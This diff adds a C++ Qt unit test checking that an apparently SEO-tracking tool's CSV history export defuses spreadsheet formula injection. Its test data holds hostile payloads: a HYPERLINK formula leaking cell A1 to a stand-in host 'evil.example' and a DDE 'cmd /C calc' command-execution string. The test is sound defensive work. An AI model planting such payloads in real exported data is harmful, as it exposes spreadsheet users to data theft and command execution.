@@ -117,6 +117,33 @@ private Q_SLOTS:
         QCOMPARE(lost.value(u"depth"_s).toInt(), 10);
     }
 
+    // Titles, products and keywords come from the web and the lists: in the CSV none of them is a
+    // formula when a spreadsheet opens it, however it is quoted; numbers stay numbers.
+    void csvHoldsNoFormula()
+    {
+        QTemporaryDir home;
+        HistoryData run;
+        run.Runs.append({0, QDateTime(QDate(2026, 3, 7), QTime(9, 30)), u"historical"_s, u"Report20260307.htm"_s});
+        run.Pages.append({0, u"http://www.alpha.com"_s, u"-1"_s, Found, u"-2+3"_s, Found,
+                          u"=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")"_s, u"=1+1"_s, u"@SUM(A1:A9)"_s});
+        run.Positions.append(
+            {0, u"http://www.alpha.com"_s, u"+cmd|' /C calc'!A0"_s, u"-seo"_s, 3, Found, 100, {u"@a.com"_s}});
+        QVERIFY(HistoryStore(home.path()).Record(run) > 0);
+
+        const CliResult csv = RunQuorvexCli(home.path(), {u"history"_s, u"--csv"_s});
+        QCOMPARE(csv.ExitCode, 0);
+        QCOMPARE(csv.Out,
+                 u"time,url,product,keyword,value,result,status,depth\r\n"
+                 "2026-03-07 09:30:00,http://www.alpha.com,,,pagerank,-1,found,\r\n"
+                 "2026-03-07 09:30:00,http://www.alpha.com,,,traffic rank,'-2+3,found,\r\n"
+                 "2026-03-07 09:30:00,http://www.alpha.com,,,title,"
+                 "\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"click\"\")\",,\r\n"
+                 "2026-03-07 09:30:00,http://www.alpha.com,,,description,'=1+1,,\r\n"
+                 "2026-03-07 09:30:00,http://www.alpha.com,,,keywords,'@SUM(A1:A9),,\r\n"
+                 "2026-03-07 09:30:00,http://www.alpha.com,'+cmd|' /C calc'!A0,'-seo,position,3,found,100\r\n"
+                 "2026-03-07 09:30:00,http://www.alpha.com,'+cmd|' /C calc'!A0,'-seo,top10,'@a.com,,\r\n"_s);
+    }
+
     void badUsageChangesNothing_data()
     {
         QTest::addColumn<QStringList>("args");
